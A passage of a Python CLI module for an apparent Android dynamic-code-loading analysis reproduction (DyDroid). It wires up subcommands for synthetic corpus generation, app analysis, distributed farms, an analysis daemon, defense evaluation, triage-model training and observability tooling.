    submit.add_argument("--index", type=int, required=True,
                        help="app index in the (seed, apps) corpus")
    submit.add_argument("--priority", type=int, default=0,
                        help="higher dequeues earlier")
    submit.add_argument("--client", default=None,
                        help="client id for rate limiting (default: peer address)")
    submit.add_argument("--wait", action="store_true",
                        help="poll until the job settles and print the final job")
    submit.add_argument("--result", action="store_true",
                        help="with --wait: also print the full analysis JSON")
    submit.add_argument("--timeout", type=float, default=120.0,
                        help="--wait deadline in seconds")
    submit.add_argument("--policy", default="",
                        help="analyze under this firewall policy "
                             "(per-tenant submit-time setting)")
    submit.add_argument("--triage", default="", choices=["on", "off"],
                        help="per-tenant tier-0 override: 'on' requires the "
                             "daemon's gate, 'off' forces full analyzers")
    submit.add_argument("--triage-threshold", type=float, default=0.0,
                        help="per-tenant confidence bar (requires --triage on)")

    status = sub.add_parser("status", help="daemon stats, or one job's record")
    status.add_argument("--host", default="127.0.0.1")
    status.add_argument("--port", type=int, default=8787)
    status.add_argument("--job", metavar="ID", help="show this job instead of stats")

    top = sub.add_parser("top", help="live dashboard over a daemon or farm run")
    top.add_argument("--host", default="127.0.0.1")
    top.add_argument("--port", type=int, default=8787)
    top.add_argument("--status", metavar="FILE", default=None,
                     help="watch a farm's status.json instead of a daemon")
    top.add_argument("--once", action="store_true",
                     help="print one JSON snapshot and exit (for scripts/CI)")
    top.add_argument("--interval", type=float, default=2.0,
                     help="refresh interval in seconds")
    top.add_argument("--iterations", type=int, default=0,
                     help="stop after N refreshes (0: until interrupted)")

    metrics = sub.add_parser("metrics", help="metrics tooling")
    metrics_sub = metrics.add_subparsers(dest="metrics_command", required=True)
    metrics_export = metrics_sub.add_parser(
        "export", help="convert a --metrics-out JSON registry to Prometheus text"
    )
    metrics_export.add_argument("metrics_file",
                                help="JSON written by --metrics-out (plain "
                                     "registry or farm summary)")
    metrics_export.add_argument("--out", metavar="FILE", default=None,
                                help="write here instead of stdout")

    store = sub.add_parser("store", help="verdict-store / warehouse tooling")
    store_sub = store.add_subparsers(dest="store_command", required=True)
    store_compact = store_sub.add_parser(
        "compact",
        help="garbage-collect a verdict store or snapshot warehouse in "
             "place (drop duplicates, corrupt debris, stale index lines) "
             "and rebuild its sqlite sidecar index",
    )
    store_compact.add_argument("store_file",
                               help="verdict store or warehouse JSONL "
                                    "(auto-detected from the header)")
    store_compact.add_argument("--json", action="store_true",
                               help="emit the compaction stats as JSON")

    corpus = sub.add_parser("corpus", help="print ground-truth corpus statistics")
    corpus.add_argument("--apps", type=int, default=1000)
    corpus.add_argument("--seed", type=int, default=7)
    corpus.add_argument("--export", metavar="DIR", help="also save the built corpus to DIR")
    _add_ecosystem_flags(corpus)

    ecosystems = sub.add_parser(
        "ecosystems",
        help="the modern-DCL scenario pack: list or describe its ecosystems",
    )
    ecosystems_sub = ecosystems.add_subparsers(dest="ecosystems_command", required=True)
    ecosystems_sub.add_parser("list", help="one line per ecosystem")
    ecosystems_describe = ecosystems_sub.add_parser(
        "describe", help="full detail for one ecosystem"
    )
    ecosystems_describe.add_argument(
        "key", help="ecosystem key (see `ecosystems list`)"
    )

    analyze = sub.add_parser("analyze", help="deep-dive one generated app")
    analyze.add_argument("--apps", type=int, default=600)
    analyze.add_argument("--seed", type=int, default=7)
    group = analyze.add_mutually_exclusive_group(required=True)
    group.add_argument("--index", type=int, help="app index in the corpus")
    group.add_argument(
        "--role",
        choices=["baidu", "malware", "packed", "vuln", "ads"],
        help="pick the first app with this planted role",
    )

    sub.add_parser("families", help="list the trained malware families")

    trace = sub.add_parser("trace", help="inspect a trace written with --trace-out")
    trace_sub = trace.add_subparsers(dest="trace_command", required=True)
    trace_summary = trace_sub.add_parser(
        "summary", help="per-stage count/total/p50/p95/max table"
    )
    trace_summary.add_argument("trace_file", help="jsonl or chrome trace file")
    return parser


def _print_report(report, args: argparse.Namespace) -> None:
    if args.json:
        print(report.to_json(include_apps=True))
    elif args.table == "all":
        print(report.render_all())
    else:
        print(getattr(report, TABLE_RENDERERS[args.table])())


def _write_json(path: str, payload) -> None:
    import json as json_module

    with open(path, "w", encoding="utf-8") as handle:
        json_module.dump(payload, handle, indent=1, sort_keys=True)
        handle.write("\n")


def cmd_measure(args: argparse.Namespace) -> int:
    from repro.observe import MetricsRegistry, Tracer, digest_line, write_trace

    started = time.perf_counter()
    if args.corpus_dir:
        from repro.corpus.storage import load_corpus

        corpus = load_corpus(args.corpus_dir)
    else:
        corpus = generate_corpus(
            args.apps, seed=args.seed, profile=_corpus_profile(args)
        )
    config = DyDroidConfig(
        train_samples_per_family=args.train, run_replays=not args.no_replays,
        triage_model=args.triage_model, triage_threshold=args.triage_threshold,
    )
    # Observability is on by default: the trace powers the one-line
    # digest below even when no --trace-out was requested.
    tracer, registry = Tracer(), MetricsRegistry()
    from repro.store import StoreError
    from repro.triage import TriageError

    try:
        pipeline = DyDroid(
            config, tracer=tracer, metrics=registry,
            verdict_store=args.verdict_store,
        )
    except (StoreError, TriageError) as exc:
        raise SystemExit("measure: {}".format(exc))
    try:
        report = pipeline.measure(corpus)
    finally:
        pipeline.close()
    _print_report(report, args)
    spans = tracer.to_dicts()
    if args.trace_out:
        write_trace(spans, args.trace_out, fmt=args.trace_format)
    if args.metrics_out:
        _write_json(args.metrics_out, registry.to_dict())
    print()
    print(
        "[{} apps measured in {:.1f}s]".format(
            report.n_total, time.perf_counter() - started
        ),
        file=sys.stderr,
    )
    print(digest_line(spans, registry), file=sys.stderr)
    return 0


def _farm_pipeline_config(args: argparse.Namespace) -> DyDroidConfig:
    return DyDroidConfig(
        train_samples_per_family=args.train, run_replays=not args.no_replays,
        triage_model=args.triage_model,
        triage_threshold=args.triage_threshold,
    )


def _farm_check_triage(args: argparse.Namespace, verb: str) -> None:
    if args.triage_model:
        # fail fast here rather than quarantining every app when each
        # worker process discovers the broken model on its own.
        from repro.triage import TriageError, TriageModel

        try:
            TriageModel.load(args.triage_model)
        except TriageError as exc:
            raise SystemExit("{}: {}".format(verb, exc))


def _print_farm_result(result, args: argparse.Namespace, label: str) -> None:
    """The shared tail of ``farm run`` and ``farm serve``: tables, quarantine
    lines, metrics/trace files, one summary line."""
    _print_report(result.report, args)
    for record in result.quarantined:
        print(
            "[quarantined: {} (index {}) after {} attempt(s): {}]".format(
                record.package, record.index, record.attempts, record.error
            ),
            file=sys.stderr,
        )
    if args.metrics_out:
        _write_json(args.metrics_out, result.metrics)
    if args.trace_out:
        from repro.observe import write_trace

        write_trace(result.spans, args.trace_out, fmt=args.trace_format)
    print()
    print(
        "[{}: {} apps ({} resumed) in {:.1f}s ({:.1f} apps/s), "
        "{} retries, {} quarantined]".format(
            label,
            result.report.n_total,
            result.resumed_apps,
            result.metrics["wall_s"],
            result.metrics["apps_per_second"],
            result.metrics["retries"],
            result.metrics["apps_quarantined"],
        ),
        file=sys.stderr,
    )


def _cmd_farm_run(args: argparse.Namespace) -> int:
    from repro.farm import CheckpointError, FarmConfig, run_farm
    from repro.store import StoreError

    config = FarmConfig(
        n_apps=args.apps,
        corpus_seed=args.seed,
        workers=args.workers,
        n_shards=args.shards,
        shard_strategy=args.shard_strategy,
        timeout_s=args.timeout,
        max_retries=args.max_retries,
        checkpoint=args.checkpoint,
        resume=args.resume,
        pipeline=_farm_pipeline_config(args),
        trace=bool(args.trace_out),
        verdict_store=args.verdict_store,
        telemetry_dir=args.telemetry_dir,
    )
    _farm_check_triage(args, "farm run")
    try:
        result = run_farm(config)
    except (CheckpointError, StoreError, ValueError) as exc:
        raise SystemExit("farm run: {}".format(exc))
    _print_farm_result(result, args, "farm")
    return 0


def _cmd_farm_serve(args: argparse.Namespace) -> int:
    from repro.farm import CheckpointError, FarmConfig, FarmCoordinator
    from repro.store import StoreError

    config = FarmConfig(
        n_apps=args.apps,
        corpus_seed=args.seed,
        n_shards=args.shards,
        shard_strategy=args.shard_strategy,
        timeout_s=args.timeout,
        max_retries=args.max_retries,
        checkpoint=args.checkpoint,
        resume=args.resume,
        pipeline=_farm_pipeline_config(args),
        trace=bool(args.trace_out),
        verdict_store=args.verdict_store,
    )
    _farm_check_triage(args, "farm serve")
    try:
        coordinator = FarmCoordinator(
            config, host=args.host, port=args.port, lease_s=args.lease
        ).start()
    except (CheckpointError, StoreError, ValueError, OSError) as exc:
        raise SystemExit("farm serve: {}".format(exc))
    snapshot = coordinator.ledger.snapshot()
    print(
        "[farm coordinator on {}:{}: {} apps, {} shards pending "
        "({} resumed apps), lease {:.1f}s]".format(
            coordinator.host,
            coordinator.port,
            args.apps,
            snapshot["pending"],
            coordinator._resumed_apps,
            args.lease,
        ),
        file=sys.stderr,
        flush=True,
    )
    try:
        result = coordinator.wait()
    finally:
        coordinator.stop()
    _print_farm_result(result, args, "farm serve")
    leases = result.metrics.get("leases", {})
    print(
        "[leases: {} granted, {} renewed, {} expired, {} stolen, "
        "{} stale; workers: {}]".format(
            leases.get("granted", 0),
            leases.get("renewed", 0),
            leases.get("expired", 0),
            leases.get("stolen", 0),
            leases.get("stale", 0),
            result.metrics.get("workers", 0),
        ),
        file=sys.stderr,
    )
    return 0


def _cmd_farm_join(args: argparse.Namespace) -> int:
    from repro.farm import FarmJoinError, join_farm

    try:
        summary = join_farm(
            args.host,
            args.port,
            workers=args.workers,
            worker_id=args.name,
            telemetry_dir=args.telemetry_dir,
            poll_s=args.poll,
        )
    except FarmJoinError as exc:
        raise SystemExit("farm join: {}".format(exc))
    if args.json:
        import json as json_module
        from dataclasses import asdict

        print(json_module.dumps(asdict(summary), indent=1, sort_keys=True))
    else:
        print(
            "[{}: {} shards completed ({} stale, {} failed), {} apps "
            "analyzed, {} quarantined, {} leases lost, {:.1f}s]".format(
                summary.worker,
                summary.shards_completed,
                summary.shards_stale,
                summary.shards_failed,
                summary.apps_analyzed,
                summary.apps_quarantined,
                summary.lost_leases,
                summary.wall_s,
            )
        )
        for error in summary.errors:
            print("[shard failed: {}]".format(error), file=sys.stderr)
    return 0


def cmd_farm(args: argparse.Namespace) -> int:
    if args.farm_command == "serve":
        return _cmd_farm_serve(args)
    if args.farm_command == "join":
        return _cmd_farm_join(args)
    return _cmd_farm_run(args)


def cmd_store(args: argparse.Namespace) -> int:
    import json as json_module

    try:
        with open(args.store_file, "rb") as handle:
            first = handle.readline()
    except OSError as exc:
        raise SystemExit("store compact: {}".format(exc))
    try:
        header = json_module.loads(first.decode("utf-8", "replace") or "{}")
    except ValueError:
        header = {}
    # Both files start with a {"kind": "header", ...} line; the warehouse's
    # carries "serialization", the verdict store's a config "fingerprint".
    is_warehouse = isinstance(header, dict) and "serialization" in header
    if is_warehouse:
        from repro.evolution import WarehouseError, compact_warehouse

        try:
            stats = compact_warehouse(args.store_file)
        except (WarehouseError, OSError) as exc:
            raise SystemExit("store compact: {}".format(exc))
        kept, flavor = stats["snapshots"], "warehouse"
    else:
        from repro.store import StoreError, compact_store

        try:
            stats = compact_store(args.store_file)
        except (StoreError, OSError) as exc:
            raise SystemExit("store compact: {}".format(exc))
        kept, flavor = stats["entries"], "verdict store"
    if args.json:
        payload = dict(stats)
        payload["kind"] = flavor
        print(json_module.dumps(payload, indent=1, sort_keys=True))
    else:
        print(
            "[compacted {} {}: {} kept, {} duplicates + {} corrupt{} "
            "dropped, {} -> {} bytes]".format(
                flavor,
                args.store_file,
                kept,
                stats["dropped_duplicates"],
                stats["dropped_corrupt"],
                " + {} stale index lines".format(stats["dropped_index_lines"])
                if "dropped_index_lines" in stats
                else "",
                stats["bytes_before"],
                stats["bytes_after"],
            )
        )
    return 0


def _warehouse_diffs(warehouse, package: Optional[str] = None):
    """Adjacent-version diffs from a warehouse, deterministic order."""
    from repro.evolution import diff_analyses

    packages = [package] if package else warehouse.packages()
    diffs = []
    for name in packages:
        versions = warehouse.versions(name)
        if not versions and package:
            raise SystemExit("evolve diff: no snapshots for {!r}".format(package))
        snapshots = [warehouse.get_analysis(name, code) for code in versions]
        for old, new in zip(snapshots, snapshots[1:]):
            diff = diff_analyses(old, new)
            if not diff.is_empty:
                diffs.append(diff)
    return diffs


def cmd_evolve(args: argparse.Namespace) -> int:
    from repro.evolution import (
        EvolveConfig,
        LineageSpec,
        SnapshotWarehouse,
        WarehouseError,
        diff_digest,
        load_warehouse_timeline,
        run_evolution,
    )

    if args.evolve_command == "run":
        from repro.observe import write_trace
        from repro.store import StoreError

        config = EvolveConfig(
            n_apps=args.apps,
            n_versions=args.versions,
            seed=args.seed,
            workers=args.workers,
            n_shards=args.shards,
            spec=LineageSpec(malicious_hazard=args.hazard),
            pipeline=DyDroidConfig(
                train_samples_per_family=args.train,
                run_replays=not args.no_replays,
            ),
            warehouse=args.warehouse,
            verdict_store=args.verdict_store,
            trace=bool(args.trace_out),
        )
        try:
            result = run_evolution(config)
        except (StoreError, WarehouseError, ValueError) as exc:
            raise SystemExit("evolve run: {}".format(exc))
        if args.json:
            _print_json(
                {
                    "diffs": [diff.to_dict() for diff in result.diffs],
                    "diff_digest": result.diff_fingerprint,
                    "timeline": result.timeline.to_dict(),
                }
            )
        else:
            for diff in result.diffs:
                print(diff.render())
            print(result.timeline.render())
            print("[diff digest: {}]".format(result.diff_fingerprint))
        if args.metrics_out:
            _write_json(args.metrics_out, result.metrics)
        if args.trace_out:
            write_trace(result.spans, args.trace_out, fmt=args.trace_format)
        print(
            "[evolve: {} snapshots ({} apps x {} versions) in {:.1f}s, "
            "{} drifted]".format(
                result.metrics["snapshots_analyzed"],
                config.n_apps,
                config.n_versions,
                result.metrics["wall_s"],
                len(result.diffs),
            ),
            file=sys.stderr,
        )
        return 0

    import os

    if not os.path.exists(args.warehouse):
        # read verbs must not conjure an empty warehouse into existence
        raise SystemExit(
            "evolve {}: no warehouse at {}".format(args.evolve_command, args.warehouse)
        )
    try:
        warehouse = SnapshotWarehouse(args.warehouse)
    except WarehouseError as exc:
        raise SystemExit("evolve {}: {}".format(args.evolve_command, exc))
    try:
        if args.evolve_command == "diff":
            diffs = _warehouse_diffs(warehouse, args.package)
            if args.json:
                _print_json(
                    {
                        "diffs": [diff.to_dict() for diff in diffs],
                        "diff_digest": diff_digest(diffs),
                    }
                )
            else:
                for diff in diffs:
                    print(diff.render())
                print("[diff digest: {}]".format(diff_digest(diffs)))
        else:  # report
            timeline = load_warehouse_timeline(warehouse)
            if args.json:
                _print_json(timeline.to_dict())
            else:
                print(timeline.render())
    finally:
        warehouse.close()
    return 0


def cmd_serve(args: argparse.Namespace) -> int:
    import signal
    import threading

    from repro.observe import write_trace
    from repro.service import AnalysisService, ServiceConfig, make_server
    from repro.service.persist import ServicePersistError
    from repro.service.slo import SloError, parse_slo
    from repro.store import StoreError

    try:
        slo = parse_slo(args.slo) if args.slo else None
    except SloError as exc:
        raise SystemExit("serve: {}".format(exc))
    config = ServiceConfig(
        host=args.host,
        port=args.port,
        workers=args.workers,
        queue_depth=args.queue_depth,
        rate_per_s=args.rate,
        rate_burst=args.burst,
        persist=args.persist,
        verdict_store=args.verdict_store,
        cache_capacity=args.cache_capacity,
        slo=slo,
        slo_window=args.slo_window,
        event_log=args.event_log,
        pipeline=DyDroidConfig(
            train_samples_per_family=args.train,
            run_replays=not args.no_replays,
            firewall_policy=args.policy,
            quarantine_dir=args.quarantine_dir,
            triage_model=args.triage_model,
            triage_threshold=args.triage_threshold,
        ),
    )
    if args.policy:
        from repro.defense.firewall import get_policy

        try:
            get_policy(args.policy)
        except ValueError as exc:
            raise SystemExit("serve: {}".format(exc))
    if args.triage_model:
        # validate now: worker threads build pipelines lazily, so a broken
        # model would otherwise surface as per-job failures.
        from repro.triage import TriageError, TriageModel

        try:
            TriageModel.load(args.triage_model)
        except TriageError as exc:
            raise SystemExit("serve: {}".format(exc))
    service = AnalysisService(config)
    try:
        service.start()
    except (ServicePersistError, StoreError) as exc:
        raise SystemExit("serve: {}".format(exc))
    server = make_server(service)
    print(
        "[serve] listening on {}:{} ({} workers, queue depth {})".format(
            args.host, server.server_port, args.workers, args.queue_depth
        ),
        flush=True,
    )

    def on_signal(signum, frame):
        # shutdown() blocks until serve_forever() exits, and the handler
        # runs on the thread *inside* serve_forever -- hand it off.
        threading.Thread(target=server.shutdown, daemon=True).start()

    previous = {
        sig: signal.signal(sig, on_signal) for sig in (signal.SIGTERM, signal.SIGINT)
    }
    try:
        server.serve_forever()
    finally:
        for sig, handler in previous.items():
            signal.signal(sig, handler)
    drained = service.drain(timeout=300.0)
    server.server_close()
    if args.metrics_out:
        _write_json(args.metrics_out, service.registry.to_dict())
    if args.trace_out:
        write_trace(service.trace_dicts(), args.trace_out, fmt=args.trace_format)
    print(
        "[serve] drained: {} completed, {} failed, {} cache hits, "
        "{} pipeline runs, {} rejected".format(
            service.counter_value("service.jobs.completed"),
            service.counter_value("service.jobs.failed"),
            service.counter_value("service.cache.hit"),
            service.counter_value("service.pipeline.runs"),
            service.counter_value("service.rejected.queue_full")
            + service.counter_value("service.rejected.rate_limited"),
        ),
        file=sys.stderr,
    )
    return 0 if drained else 1


def _service_client(args: argparse.Namespace):
    from repro.service import ServiceClient

    return ServiceClient(args.host, args.port)


def _print_json(payload) -> None:
    import json as json_module

    print(json_module.dumps(payload, indent=1, sort_keys=True))


def cmd_submit(args: argparse.Namespace) -> int:
    from repro.service import ServiceClientError

    client = _service_client(args)
    spec = {
        "kind": "corpus",
        "seed": args.seed,
        "n_apps": args.apps,
        "index": args.index,
    }
    if args.policy:
        spec["policy"] = args.policy
    if args.triage:
        spec["triage"] = args.triage
    if args.triage_threshold:
        spec["triage_threshold"] = args.triage_threshold
    try:
        response = client.submit(spec, client=args.client, priority=args.priority)
        if args.wait and response["state"] != "done":
            response = client.wait(response["job_id"], timeout=args.timeout)
        elif args.wait:
            response = client.job(response["job_id"])
        _print_json(response)
        if args.wait and args.result:
            _print_json(client.result(response["digest"]))
    except ServiceClientError as exc:
        raise SystemExit("submit: {}".format(exc))
    return 0


def cmd_status(args: argparse.Namespace) -> int:
    from repro.service import ServiceClientError

    client = _service_client(args)
    try:
        _print_json(client.job(args.job) if args.job else client.stats())
    except ServiceClientError as exc:
        raise SystemExit("status: {}".format(exc))
    return 0


def cmd_corpus(args: argparse.Namespace) -> int:
    generator = CorpusGenerator(profile=_corpus_profile(args), seed=args.seed)
    blueprints = generator.sample_blueprints(args.apps)
    n = len(blueprints)

    def pct(count: int) -> str:
        return "{} ({:.2%})".format(count, count / n)

    print("corpus ground truth: {} apps, seed {}".format(n, args.seed))
    print("  DEX DCL code:        ", pct(sum(b.has_dex_dcl_code for b in blueprints)))
    print("  native code:         ", pct(sum(b.has_native_code for b in blueprints)))
    print("  DEX DCL reachable:   ", pct(sum(b.dex_dcl_reachable for b in blueprints)))
    print("  native reachable:    ", pct(sum(b.native_dcl_reachable for b in blueprints)))
    print("  lexical obfuscation: ", pct(sum(b.lexical_obfuscated for b in blueprints)))
    print("  reflection:          ", pct(sum(b.reflection for b in blueprints)))
    print("  packed (DEX enc.):   ", pct(sum(b.is_packed for b in blueprints)))
    print("  anti-decompilation:  ", pct(sum(b.anti_decompilation for b in blueprints)))
    print("  remote fetch (Baidu):", pct(sum(b.is_baidu_remote for b in blueprints)))
    print("  vulnerable:          ", pct(sum(1 for b in blueprints if b.vuln_kind)))
    families = Counter(b.malware_family for b in blueprints if b.malware_family)
    print("  malware carriers:    ", dict(families))
    entities = Counter(b.dex_entity for b in blueprints if b.dex_entity)
    print("  DEX entity mix:      ", dict(entities))
    if getattr(args, "ecosystems", False):
        print("  plugin hosts:        ", pct(sum(b.is_plugin_host for b in blueprints)))
        print("  split-APK apps:      ", pct(sum(b.is_split_apk for b in blueprints)))
        print("  staged downloaders:  ", pct(sum(b.is_staged_downloader for b in blueprints)))
        print("  self-debloating:     ", pct(sum(b.is_self_debloating for b in blueprints)))
    if args.export:
        from repro.corpus.storage import save_corpus

        records = [generator.build_record(blueprint) for blueprint in blueprints]
        index = save_corpus(records, args.export)
        print("  exported to:         ", index.parent)
    return 0


def _pick_record(args: argparse.Namespace):
    generator = CorpusGenerator(seed=args.seed)
    blueprints = generator.sample_blueprints(args.apps)
    if args.index is not None:
        if not 0 <= args.index < len(blueprints):
            raise SystemExit("index out of range (corpus has {} apps)".format(len(blueprints)))
        return generator.build_record(blueprints[args.index])
    predicates = {
        "baidu": lambda b: b.is_baidu_remote,
        "malware": lambda b: b.malware_family is not None,
        "packed": lambda b: b.is_packed,
        "vuln": lambda b: b.vuln_kind is not None,
        "ads": lambda b: b.uses_google_ads,
    }
    predicate = predicates[args.role]
    for blueprint in blueprints:
        if predicate(blueprint):
            return generator.build_record(blueprint)
    raise SystemExit("no app with role {!r} in this corpus".format(args.role))


def cmd_analyze(args: argparse.Namespace) -> int:
    record = _pick_record(args)
    dydroid = DyDroid(DyDroidConfig(train_samples_per_family=3))
    analysis = dydroid.analyze_app(record)

    print("package:   ", analysis.package)
    print("category:  ", analysis.metadata.category)
    print("downloads: ", "{:,}".format(analysis.metadata.downloads))
    if analysis.decompile_failed:
        print("decompilation FAILED (anti-decompilation sample)")
        return 0
    print("prefilter:  dex={} native={}".format(
        analysis.prefilter.has_dex_dcl, analysis.prefilter.has_native_dcl))
    print("obfuscation:", ", ".join(analysis.obfuscation.techniques()) or "none")
    if analysis.dynamic is None:
        print("dynamic analysis: skipped (no DCL-related code)")
        return 0
    print("dynamic:    outcome={} events_run={}".format(
        analysis.dynamic.outcome.value, analysis.dynamic.events_run))
    for payload in analysis.payloads:
        print("  payload", payload.path)
        print("    kind={} entity={} provenance={}".format(
            payload.kind.value, payload.entity.value, payload.provenance.value))
        if payload.remote_sources:
            print("    remote sources:", ", ".join(payload.remote_sources))
        if payload.detection:
            print("    MALWARE:", payload.detection)
        for leak in payload.leaks:
            print("    leak:", leak)
    for finding in analysis.vulnerabilities:
        print("  VULNERABLE: {} via {} ({})".format(
            finding.category.value, finding.path, finding.code_kind))
    for config, loaded in sorted(analysis.replay_loaded.items()):
        print("  replay[{}]: {} file(s) loaded".format(config, len(loaded)))
    return 0


def cmd_defend(args: argparse.Namespace) -> int:
    from repro.defense.firewall import POLICIES, QuarantineStore, replay_quarantined
    from repro.store import StoreError

    if args.defend_command == "eval":
        from repro.defense.evaluation import evaluate_defense

        started = time.perf_counter()
        try:
            evaluation = evaluate_defense(
                args.apps,
                seed=args.seed,
                policy=args.policy,
                verdict_store=args.verdict_store or "",
                quarantine_dir=args.quarantine_dir or "",
                config=DyDroidConfig(train_samples_per_family=args.train),
                workers=args.workers,
                profile=_corpus_profile(args),
            )
        except (StoreError, ValueError) as exc:
            raise SystemExit("defend eval: {}".format(exc))
        if args.json:
            _print_json(evaluation.to_dict())
        else:
            print(evaluation.render())
            print()
            print(evaluation.defended_report.render_defense_table())
        print(
            "[defend eval: {} apps x2 phases in {:.1f}s; {}/{} hazards blocked, "
            "{} benign broken]".format(
                args.apps,
                time.perf_counter() - started,
                len(evaluation.blocked_hazards),
                len(evaluation.exposed_hazards),
                len(evaluation.broken_benign),
            ),
            file=sys.stderr,
        )
        return 0

    if args.defend_command == "replay":
        import os

        if not os.path.isdir(args.quarantine_dir):
            raise SystemExit(
                "defend replay: no quarantine directory at {}".format(args.quarantine_dir)
            )
        store = QuarantineStore(args.quarantine_dir)
        digests = [args.digest] if args.digest else store.digests()
        if args.digest and args.digest not in store.digests():
            raise SystemExit(
                "defend replay: no quarantined payload {}".format(args.digest)
            )
        results = [replay_quarantined(store, digest) for digest in digests]
        if args.json:
            _print_json(results)
        else:
            for result in results:
                print("payload {} ({}, rule {})".format(
                    result["digest"][:16], result["kind"], result["rule"]))
                print("  original path:", result["source_path"])
                print("  sandbox load: ", "error: " + result["error"]
                      if result["error"] else "ok")
                print("  events:        dex={} native={}".format(
                    result["dex_events"], result["native_events"]))
                for line in result["logcat"]:
                    print("  logcat:", line)
                for exfil in result["exfiltrated"]:
                    print("  EXFIL: {} ({} bytes)".format(exfil["url"], exfil["n_bytes"]))
        return 0

    if args.defend_command == "debloat":
        from repro.defense.debloat import debloat_corpus

        generator = CorpusGenerator(seed=args.seed)
        blueprints = generator.sample_blueprints(args.apps)
        if args.index is not None:
            if not 0 <= args.index < len(blueprints):
                raise SystemExit(
                    "index out of range (corpus has {} apps)".format(len(blueprints))
                )
            blueprints = [blueprints[args.index]]
        records = [generator.build_record(blueprint) for blueprint in blueprints]
        pairs = debloat_corpus(records)
        manifests = [manifest for _, manifest in pairs]
        if args.json:
            _print_json([manifest.to_dict() for manifest in manifests])
        else:
            for manifest in manifests:
                if not manifest.rewritten:
                    continue
                print("{}: shelved {} site(s), kept {} reachable".format(
                    manifest.package, len(manifest.shelved),
                    manifest.reachable_loader_sites))
                for site in manifest.shelved:
                    print("  - {}.{} [{}] in {}".format(
                        site.class_name, site.method_name,
                        site.mechanism, site.dex_entry))
            print("[debloat: {}/{} apps rewritten, {} site(s) shelved]".format(
                sum(1 for m in manifests if m.rewritten), len(manifests),
                sum(len(m.shelved) for m in manifests)))
        return 0

    # policies
    for name in sorted(POLICIES):
        policy = POLICIES[name]
        mode = "enforce" if policy.enforce else "observe"
        print("{:<10} [{}] {}".format(name, mode, policy.description))
    return 0


def cmd_triage(args: argparse.Namespace) -> int:
    from repro.triage import TriageError, TriageModel

    if args.triage_command == "train":
        from repro.triage.harness import train_triage_model

        started = time.perf_counter()
        try:
            model, summary = train_triage_model(
                args.apps,
                seed=args.seed,
                ratio=args.ratio,
                split_seed=args.split_seed,
                epochs=args.epochs,
                learning_rate=args.learning_rate,
                l2=args.l2,
                train_seed=args.train_seed,
                harvest=args.harvest,
                aux_corpora=args.aux_corpora,
            )
        except (TriageError, ValueError) as exc:
            raise SystemExit("triage train: {}".format(exc))
        model.save(args.out)
        if args.json:
            _print_json(dict(summary, model=args.out))
        else:
            print("model:              ", args.out)
            print("config fingerprint: ", summary["config_fingerprint"][:16])
            print("training sessions:  ", "{} ({} hazard)".format(
                summary["n_samples"], summary["n_hazard"]))
            print("  corpus split:     ", "{} sessions".format(
                summary["train_sessions"] - summary["aux_sessions"]))
            print("  aux corpora:      ", "{} sessions from {} corpora".format(
                summary["aux_sessions"], args.aux_corpora))
            print("  harvested:        ", summary["harvested"])
        print(
            "[triage train: {} sessions ({} hazard) in {:.1f}s -> {}]".format(
                summary["n_samples"], summary["n_hazard"],
                time.perf_counter() - started, args.out,
            ),
            file=sys.stderr,
        )
        return 0

    if args.triage_command == "eval":
        from repro.triage.harness import evaluate_triage

        started = time.perf_counter()
        try:
            model = TriageModel.load(args.model)
            evaluation = evaluate_triage(
                model,
                args.apps,
                seed=args.seed,
                threshold=args.threshold,
                ratio=args.ratio,
                split_seed=args.split_seed,
                config=DyDroidConfig(train_samples_per_family=args.train),
            )
        except (TriageError, ValueError) as exc:
            raise SystemExit("triage eval: {}".format(exc))
        if args.json:
            _print_json(evaluation.to_dict())
        else:
            print(evaluation.render())
        print(
            "[triage eval: {} held-out sessions in {:.1f}s; recall {:.1%}, "
            "short-circuit {:.1%}]".format(
                evaluation.n_sessions, time.perf_counter() - started,
                evaluation.recall, evaluation.short_circuit_rate,
            ),
            file=sys.stderr,
        )
        return 0

    # inspect
    try:
        model = TriageModel.load(args.model)
    except TriageError as exc:
        raise SystemExit("triage inspect: {}".format(exc))
    if args.json:
        _print_json(model.to_dict())
        return 0
    nonzero = sum(1 for w in model.weights if w)
    print("model:              ", args.model)
    print("config fingerprint: ", model.config_fingerprint[:16])
    print("fingerprint version:", model.fingerprint_version)
    print("features:           ", "{} ({} nonzero weights)".format(
        model.n_features, nonzero))
    print("bias:               ", round(model.bias, 4))
    for key in sorted(model.train_config):
        print("  {:<18}{}".format(key + ":", model.train_config[key]))
    heaviest = sorted(
        enumerate(model.weights), key=lambda kv: -abs(kv[1])
    )[:8]
    print("heaviest buckets:   ", ", ".join(
        "#{}={:+.3f}".format(index, weight) for index, weight in heaviest))
    return 0


def cmd_trace(args: argparse.Namespace) -> int:
    import os

    from repro.observe import load_spans, render_summary

    # A missing or empty trace is a normal outcome (tracing disabled, run
    # produced nothing), not an error: say so plainly and exit 0 so
    # pipelines like `repro ... && repro trace summary` do not break.
    if not os.path.exists(args.trace_file):
        print("no spans recorded ({} does not exist)".format(args.trace_file))
        return 0
    try:
        spans = load_spans(args.trace_file)
    except (OSError, ValueError) as exc:
        raise SystemExit("trace summary: {}".format(exc))
    if not spans:
        print("no spans recorded ({} is empty)".format(args.trace_file))
        return 0
    print(render_summary(spans))
    return 0


def _top_snapshot(args: argparse.Namespace):
    import json as json_module

    from repro.observe.prom import PromParseError
    from repro.observe.top import build_daemon_snapshot, build_farm_snapshot

    if args.status:
        try:
            with open(args.status, "r", encoding="utf-8") as handle:
                return build_farm_snapshot(json_module.load(handle))
        except (OSError, ValueError) as exc:
            raise SystemExit("top: {}".format(exc))
    from repro.service import ServiceClientError

    client = _service_client(args)
    try:
        return build_daemon_snapshot(client.stats(), client.metrics_prom())
    except ServiceClientError as exc:
        raise SystemExit("top: {}".format(exc))
    except PromParseError as exc:
        raise SystemExit("top: daemon served invalid Prometheus text: {}".format(exc))


def cmd_top(args: argparse.Namespace) -> int:
    from repro.observe.top import render_top

    if args.once:
        _print_json(_top_snapshot(args))
        return 0
    refreshed = 0
    while True:
        snapshot = _top_snapshot(args)
        # clear + home, like watch(1); harmless when piped to a file.
        sys.stdout.write("\x1b[2J\x1b[H")
        print(render_top(snapshot))
        sys.stdout.flush()
        refreshed += 1
        if args.iterations and refreshed >= args.iterations:
            return 0
        time.sleep(max(0.1, args.interval))


def cmd_metrics(args: argparse.Namespace) -> int:
    import json as json_module

    from repro.observe.prom import to_prometheus

    try:
        with open(args.metrics_file, "r", encoding="utf-8") as handle:
            payload = json_module.load(handle)
    except (OSError, ValueError) as exc:
        raise SystemExit("metrics export: {}".format(exc))
    if not isinstance(payload, dict):
